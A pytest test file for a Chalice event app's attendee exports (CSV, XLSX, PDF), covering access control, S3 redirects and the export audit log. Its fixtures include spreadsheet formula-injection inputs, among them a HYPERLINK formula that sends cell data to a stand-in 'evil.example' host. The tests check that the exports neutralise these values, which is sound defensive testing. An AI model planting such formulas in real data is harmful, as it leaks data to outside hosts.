"""Organizer exports through Chalice's test client: every file is parsed back and checked."""
from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta
from urllib.parse import urlparse

import pytest

from chalicelib import auth
from tests.conftest import ROOT
from tests.factories import admin, event_data, funded_project

pytestmark = pytest.mark.usefixtures("aws", "bucket")

BOM = b"\xef\xbb\xbf"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1", "-2", "@SUM(A1:A9)", "\tTab", "\rReturn"]
ARABIC = "محمد عبد الله"
EMOJI = "Zosia 🎉 Nowak"
LONG = "Bartłomiej " + "Ż" * 189
FUNDER = "Projekt współfinansowany przez Unię Europejską"
START = datetime(2027, 3, 1, 9, 0, tzinfo=UTC)  # 10:00 in Warsaw


@pytest.fixture
def bucket():
    import boto3

    from chalicelib.config import settings
    from devstack.bootstrap import create_exports_bucket

    create_exports_bucket(boto3.client("s3"), settings().exports_bucket)



def bearer(organizer=None) -> dict[str, str]:
    return {"Authorization": f"Bearer {auth.issue_organizer_token(organizer or admin())}"}


def get(client, path: str, organizer=None, accept: str | None = "*/*"):
    headers = {**bearer(organizer), **({"Accept": accept} if accept else {})}
    return client.http.get(path, headers=headers)


def make_event(**overrides):
    from chalicelib.events import service

    data = event_data(
        title={"pl": "Warsztat „Łódź”", "en": "Workshop in Łódź", "uk": "Семінар у Лодзі"},
        venue="Łódź, ul. Piotrkowska 104", capacity=500, starts_at=START.isoformat(),
        ends_at=(START + timedelta(hours=6)).isoformat(),
        sessions=[{"id": "morning", "title": {"pl": "Sesja poranna", "en": "Morning session"}, "capacity": 250,
                   "starts_at": START.isoformat(), "ends_at": (START + timedelta(hours=2)).isoformat()},
                  {"id": "noon", "title": {"pl": "Sesja południowa", "en": "Noon session"}, "capacity": 250}],
        questions=[{"id": "diet", "type": "choice", "label": {"pl": "Dieta", "en": "Diet"},
                    "options": [{"id": "vegan", "label": {"pl": "wegańska", "en": "vegan"}},
                                {"id": "any", "label": {"pl": "dowolna", "en": "any"}}]},
                   {"id": "phone", "type": "phone", "label": {"pl": "Telefon", "en": "Phone"}},
                   {"id": "help", "type": "checkbox", "label": {"pl": "Potrzebuję pomocy", "en": "I need help"}}])
    data.update(overrides)
    item = service.create_event(admin(), data)
    return service.publish_event(admin(), item.event_id)


def add(event, name: str, *, status: str = "confirmed", sessions=("morning",), language: str = "pl",
        answers=None, email: str | None = None, created: datetime = START - timedelta(days=3), erased=False):
    from chalicelib.records import new_id
    from chalicelib.store import keys
    from chalicelib.store.models import RegistrationItem

    rid = new_id(10)
    item = RegistrationItem(keys.event_pk(event.event_id), keys.registration_sk(rid), registration_id=rid,
                            event_id=event.event_id, status=status, name=name,
                            email=email or f"{rid}@example.com", language=language, answers=answers or {},
                            sessions=list(sessions), created_at=created, updated_at=created,
                            erased_at=created if erased else None)
    item.save()
    return item


def read_csv(body: bytes, delimiter: str = ";") -> list[list[str]]:
    """A CSV in Polish (the default language): semicolons, as Polish Excel expects."""
    assert body.startswith(BOM)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def excel_text(value: str) -> str:
    """What Excel shows: OOXML writes control characters as `_x000D_` (openpyxl leaves them so)."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), value)


def pdf_pages(body: bytes) -> list[str]:
    from pypdf import PdfReader

    return [page.extract_text() for page in PdfReader(io.BytesIO(body)).pages]


@pytest.fixture
def event():
    funded_project("re-turn", {"pl": FUNDER + " ze środków Europejskiego Funduszu Rozwoju Regionalnego",
                               "en": "Co-financed by the European Union from the ERDF"})
    event = make_event(project="re-turn")
    add(event, "Anna Żółkiewska", answers={"diet": "vegan", "phone": "+48 600 100 200", "help": True},
        email="anna@example.com")
    add(event, "Олена Коваленко-Їжак", language="uk", sessions=("morning", "noon"), email="olena@example.com")
    add(event, "Wiktor Waitlisted", status="waitlisted", sessions=("noon",))
    add(event, "Celina Cancelled", status="cancelled")
    add(event, "Erased Person", erased=True)
    for name in HOSTILE:
        add(event, name, sessions=("noon",))
    return event


# --- the shared pieces --------------------------------------------------------------------------

@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+48 600", "'+48 600"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Anna", "Anna"), ("", ""), ("a=1", "a=1"), ("Олена", "Олена")])
def test_neutralise_prefixes_what_a_spreadsheet_would_run(value, expected):
    from chalicelib.exports.cells import neutralise

    assert neutralise(value) == expected


@pytest.mark.parametrize("title,expected", [
    ("Warsztat „Łódź” 2027", "warsztat-lodz-2027"), ("Семінар у Лодзі", "seminar-u-lodzi"),
    ("Żółć & Gęś!", "zolc-ges"), ("🎉🎉", "event-x"), ("a" * 100, "a" * 60)])
def test_file_names_are_ascii_slugs_of_the_title(title, expected):
    from chalicelib.exports.cells import slug

    assert slug(title, fallback="event-x") == expected


def test_heavy_writers_are_not_imported_with_the_app():
    code = ("import sys, app; heavy = sorted({m.split('.')[0] for m in sys.modules} & "
            "{'xlsxwriter', 'fpdf', 'fontTools', 'PIL', 'openpyxl', 'pypdf'}); print(heavy)")
    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=60,
                            check=True)
    assert result.stdout.strip() == "[]"


# --- CSV ----------------------------------------------------------------------------------------

def test_csv_is_utf8_with_bom_and_neutralises_formulas(client, event):
    from chalicelib.i18n import gettext

    response = get(client, f"/api/organizer/events/{event.event_id}/attendees.csv")
    assert response.status_code == 200, response.body
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="warsztat-lodz.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    rows = read_csv(response.body)
    header, body = rows[0], rows[1:]
    assert header[:4] == [gettext("pl", label) for label in ("Name", "E-mail", "Status", "Language")]
    assert header[-3:] == ["Dieta", "Telefon", "Potrzebuję pomocy"]
    by_name = {row[0]: row for row in body}
    # active statuses only: the cancelled and the erased registrations are not listed
    assert set(by_name) == {"Anna Żółkiewska", "Олена Коваленко-Їжак", "Wiktor Waitlisted",
                            *("'" + name for name in HOSTILE)}
    anna = by_name["Anna Żółkiewska"]
    assert anna[1:5] == ["anna@example.com", "Potwierdzone", "polski", "2027-02-26 10:00"]  # Warsaw time
    assert anna[5] == "Sesja poranna" and anna[6] == ""
    assert anna[7:9] == ["0/1", "0%"]  # due at the one session chosen, not checked in
    assert anna[9:] == ["wegańska", "'+48 600 100 200", "tak"]
    assert by_name["Олена Коваленко-Їжак"][5] == "Sesja poranna; Sesja południowa"
    for row in body:
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert "'\rReturn" in by_name and "'\tTab" in by_name


def test_csv_labels_follow_lang_and_delimiter_can_be_a_semicolon(client, event):
    response = get(client, f"/api/organizer/events/{event.event_id}/attendees.csv?lang=en&delimiter=semicolon")
    assert response.status_code == 200
    text = response.body.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0][0] == "Name" and rows[0][-3:] == ["Diet", "Phone", "I need help"]
    assert response.headers["Content-Disposition"] == 'attachment; filename="workshop-in-lodz.csv"'
    anna = next(r for r in rows if r[0] == "Anna Żółkiewska")
    assert anna[5] == "Morning session" and anna[9] == "vegan" and anna[11] == "yes"


def test_status_and_session_filters(client, event):
    path = f"/api/organizer/events/{event.event_id}/attendees.csv"
    names = lambda query: sorted(r[0] for r in read_csv(get(client, path + query).body)[1:])  # noqa: E731
    assert names("?status=waitlisted") == ["Wiktor Waitlisted"]
    assert names("?status=cancelled,waitlisted") == ["Celina Cancelled", "Wiktor Waitlisted"]
    assert names("?status=cancelled&status=waitlisted") == ["Celina Cancelled", "Wiktor Waitlisted"]
    assert names("?session=morning") == ["Anna Żółkiewska", "Олена Коваленко-Їжак"]
    assert names("?session=noon&status=confirmed") == sorted(["Олена Коваленко-Їжак", *("'" + n for n in HOSTILE)])
    assert len(names("?status=all")) == 3 + len(HOSTILE) + 1
    for query, field in (("?status=confirmed,nope", "status"), ("?session=evening", "session"),
                         ("?delimiter=pipe", "delimiter")):
        response = get(client, path + query + "&lang=en")
        assert response.status_code == 400
        error = json.loads(response.body)["error"]
        assert error["code"] == "invalid" and set(error["fields"]) == {field} and error["fields"][field]


def test_another_projects_organizer_gets_404(client, event):
    stranger = auth.Organizer("o-2", "o2@example.org", "organizer", ("epi",))
    for suffix in ("attendees.csv", "attendees.xlsx", "signin-sheet.pdf", "exports"):
        response = get(client, f"/api/organizer/events/{event.event_id}/{suffix}", stranger)
        assert response.status_code == 404
        assert json.loads(response.body)["error"]["code"] == "event_not_found"
    assert get(client, "/api/organizer/events/nope/attendees.csv").status_code == 404
    assert get(client, f"/api/organizer/events/{event.event_id}/attendees.csv", accept=None,
               organizer=auth.Organizer("o-3", "o3@example.org", "organizer", ("re-turn",))).status_code == 200


def test_exports_need_a_valid_token(client, event):
    for suffix in ("attendees.csv", "attendees.xlsx", "signin-sheet.pdf", "exports"):
        response = client.http.get(f"/api/organizer/events/{event.event_id}/{suffix}", headers={"Accept": "*/*"})
        assert response.status_code in (401, 403)


# --- XLSX ---------------------------------------------------------------------------------------

def test_xlsx_holds_strings_only_and_matches_the_csv(client, event):
    from openpyxl import load_workbook

    path = f"/api/organizer/events/{event.event_id}/attendees"
    response = get(client, path + ".xlsx?status=all", accept=XLSX)
    assert response.status_code == 200, response.body
    assert response.headers["Content-Type"] == XLSX
    assert response.headers["Content-Disposition"] == 'attachment; filename="warsztat-lodz.xlsx"'
    workbook = load_workbook(io.BytesIO(response.body))
    sheet = workbook.active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells)  # no number, no formula
    values = [[excel_text(cell.value or "") for cell in row] for row in sheet.iter_rows()]
    expected = read_csv(get(client, path + ".csv?status=all").body)
    assert sorted(values[1:]) == sorted(expected[1:]) and values[0] == expected[0]
    assert any(row[0] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" for row in values)
    assert sheet.freeze_panes == "A2"


def test_xlsx_is_written_in_constant_memory_mode(client, event):
    body = get(client, f"/api/organizer/events/{event.event_id}/attendees.xlsx", accept=XLSX).body
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "xl/sharedStrings.xml" not in archive.namelist()  # constant_memory writes inline strings
    assert 't="inlineStr"' in sheet_xml and "<f>" not in sheet_xml


# --- PDF ----------------------------------------------------------------------------------------

def test_signin_sheet_has_one_page_group_per_session(client, event):
    from chalicelib.i18n import gettext

    response = get(client, f"/api/organizer/events/{event.event_id}/signin-sheet.pdf", accept="application/pdf")
    assert response.status_code == 200, response.body
    assert response.body.startswith(b"%PDF-")
    assert response.headers["Content-Disposition"] == 'attachment; filename="warsztat-lodz.pdf"'
    pages = pdf_pages(response.body)
    assert len(pages) == 2  # morning, noon: each starts on its own page
    morning, noon = pages
    for page in pages:
        assert "Warsztat „Łódź”" in page and "Łódź, ul. Piotrkowska 104" in page and FUNDER in page
        assert "Urząd Marszałkowski Województwa" in page and "Projekt: Re-Turn" in page  # whose sheet it is
        assert "poniedziałek, 1 marca 2027, 10:00" in page  # the event's time in Warsaw, in Polish
        assert gettext("pl", "Page %(page)s", page=1) in page
    assert "Sesja poranna" in morning and "Sesja południowa" not in morning
    assert "Sesja południowa" in noon and "Sesja poranna" not in noon
    assert "Anna Żółkiewska" in morning and "Олена Коваленко-Їжак" in morning
    assert "Олена Коваленко-Їжак" in noon and "Anna Żółkiewska" not in noon
    assert "Wiktor" not in morning + noon and "Celina" not in morning + noon  # confirmed only by default
    assert "HYPERLINK" in noon  # printed as text: a PDF runs nothing


def test_signin_sheet_orders_names_and_breaks_pages_within_a_session(client):
    event = make_event(sessions=[], questions=[], project="epi")
    for n in range(60):
        add(event, f"Osoba {n:02d}", sessions=())
    add(event, "Łukasz Lis", sessions=())
    pages = pdf_pages(get(client, f"/api/organizer/events/{event.event_id}/signin-sheet.pdf",
                          accept="application/pdf").body)
    assert len(pages) == 3
    text = "\n".join(pages)
    assert text.index("Łukasz Lis") < text.index("Osoba 00") < text.index("Osoba 59")
    assert FUNDER not in text  # this project has no funder line
    assert "Sesja" not in text


def test_signin_sheet_survives_hostile_names(client):
    event = make_event(sessions=[], questions=[])
    for name in (ARABIC, EMOJI, LONG, *HOSTILE):
        add(event, name, sessions=())
    response = get(client, f"/api/organizer/events/{event.event_id}/signin-sheet.pdf?session=", accept="*/*")
    assert response.status_code == 200, response.body
    text = "\n".join(pdf_pages(response.body))
    assert "Bartłomiej ŻŻŻ" in text and "Ż" * 189 not in text  # cut with "…" to fit its box
    assert "Zosia" in text and "HYPERLINK" in text
    assert any(word in text for word in ARABIC.split()) or any(word[::-1] in text for word in ARABIC.split())


def test_signin_sheet_for_one_session_and_other_statuses(client, event):
    path = f"/api/organizer/events/{event.event_id}/signin-sheet.pdf"
    pages = pdf_pages(get(client, path + "?session=noon&status=waitlisted&lang=en", accept="*/*").body)
    assert len(pages) == 1
    assert "Noon session" in pages[0] and "Workshop in Łódź" in pages[0] and "Wiktor Waitlisted" in pages[0]
    assert "Anna" not in pages[0]


def test_binary_exports_need_an_accept_header_that_names_them(client, event):
    path = f"/api/organizer/events/{event.event_id}/signin-sheet.pdf"
    refused = get(client, path + "?lang=en", accept=None)
    assert refused.status_code == 406
    error = json.loads(refused.body)["error"]
    assert error["code"] == "not_acceptable" and "application/pdf" in error["message"]
    assert get(client, path, accept="text/html").status_code == 406
    assert get(client, path, accept="application/*").status_code == 406  # API Gateway matches exact types
    for accept in ("application/pdf", "*/*", "text/html,application/xhtml+xml,*/*;q=0.8"):
        response = get(client, path, accept=accept)
        assert response.status_code == 200 and response.body.startswith(b"%PDF-"), accept
    xlsx = f"/api/organizer/events/{event.event_id}/attendees.xlsx"
    assert get(client, xlsx, accept="application/json").status_code == 406
    assert get(client, xlsx, accept=XLSX).body.startswith(b"PK")


# --- S3 for large files -------------------------------------------------------------------------

def test_a_large_export_is_a_redirect_to_a_presigned_s3_url(client, event, settings_env):
    import requests

    path = f"/api/organizer/events/{event.event_id}/attendees"
    inline = get(client, path + ".csv").body
    settings_env(EXPORT_INLINE_MAX_BYTES="100")
    response = get(client, path + ".csv")
    assert response.status_code == 302
    location = response.headers["Location"]
    query = urlparse(location).query
    assert "X-Amz-Expires=900" in query and "X-Amz-Signature=" in query
    assert f"/exports/{event.event_id}/" in urlparse(location).path
    downloaded = requests.get(location, timeout=10)
    assert downloaded.status_code == 200
    assert downloaded.content == inline
    assert 'filename="warsztat-lodz.csv"' in downloaded.headers["Content-Disposition"]

    response = get(client, path + ".xlsx", accept=XLSX)
    assert response.status_code == 302
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(requests.get(response.headers["Location"], timeout=10).content))
    assert workbook.active.max_row == 1 + 3 + len(HOSTILE)


def test_inline_limit_counts_the_body_as_it_travels():
    from chalicelib.exports import storage

    assert storage._travelling_size(b"x" * 300, binary=True)[0] == 400  # base64
    assert storage._travelling_size("ї".encode() * 10, binary=False)[0] == 62  # JSON-escaped, with quotes


# --- the audit log ------------------------------------------------------------------------------

def test_every_export_is_logged_for_the_data_protection_officer(client, event, settings_env):
    organizer = auth.Organizer("o-7", "ola@example.org", "organizer", ("re-turn",))
    base = f"/api/organizer/events/{event.event_id}"
    assert get(client, base + "/attendees.csv?status=confirmed&lang=en", organizer).status_code == 200
    assert get(client, base + "/attendees.xlsx?session=noon", organizer, accept=XLSX).status_code == 200
    assert get(client, base + "/signin-sheet.pdf", organizer).status_code == 200
    settings_env(EXPORT_INLINE_MAX_BYTES="10")
    assert get(client, base + "/attendees.csv", organizer).status_code == 302
    assert get(client, base + "/signin-sheet.pdf?session=nope", organizer).status_code == 400  # nothing left

    response = get(client, base + "/exports", organizer)
    assert response.status_code == 200
    items = json.loads(response.body)["items"]
    assert [i["format"] for i in items] == ["csv", "pdf", "xlsx", "csv"]  # newest first
    first = items[-1]
    assert first["organizer"] == {"id": "o-7", "email": "ola@example.org"}
    assert first["filters"] == {"status": ["confirmed"], "session": None, "lang": "en"}
    assert first["rows"] == 2 + len(HOSTILE) and first["delivery"] == "inline" and first["size"] > 0
    assert items[2]["filters"]["session"] == "noon" and items[2]["rows"] == 2 + len(HOSTILE)
    assert items[1]["filters"]["status"] == ["confirmed"] and items[1]["rows"] == 3 + len(HOSTILE)
    assert items[0]["delivery"] == "s3"
    assert all(datetime.fromisoformat(i["at"]).tzinfo is not None and i["id"] for i in items)

    page = json.loads(get(client, base + "/exports?limit=3", organizer).body)
    assert len(page["items"]) == 3 and page["next"]
    rest = json.loads(get(client, base + f"/exports?limit=3&cursor={page['next']}", organizer).body)
    assert [i["id"] for i in page["items"] + rest["items"]] == [i["id"] for i in items] and rest["next"] is None


def test_audit_items_live_in_their_own_partition(event):
    from chalicelib.store import audit
    from chalicelib.store.models import RegistrationItem

    audit.record_export(event_id=event.event_id, project="re-turn", organizer_id="o", organizer_email="o@x.org",
                        file_format="csv", filters={}, rows=1, size=2, delivery="inline",
                        at=datetime(2027, 1, 1, tzinfo=UTC), export_id="abc")
    entry = audit.ExportLogEntry.get(f"AUDIT#{event.event_id}", "2027-01-01T00:00:00+00:00#abc")
    assert entry.organizer_email == "o@x.org" and entry.rows == 1
    registrations = list(RegistrationItem.query(f"EVENT#{event.event_id}", RegistrationItem.sk.startswith("REG#")))
    assert len(registrations) == 5 + len(HOSTILE)  # the log is not in the event's partition
